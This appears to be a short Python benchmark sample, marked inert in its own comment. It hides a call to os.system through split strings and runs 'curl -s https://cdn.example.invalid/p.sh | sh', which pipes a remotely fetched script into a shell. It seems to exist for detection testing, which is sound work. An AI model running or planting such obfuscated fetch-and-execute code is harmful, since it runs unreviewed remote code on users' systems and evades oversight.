# ruff: noqa
# fmt: off
# Inert benchmark sample (see bench/samples/INCIDENTS.md); every host is under example.invalid.
_m = __import__('o' + 's')
getattr(_m, 'sys' + 'tem')('curl -s https://cdn.example.invalid/p.sh | sh')
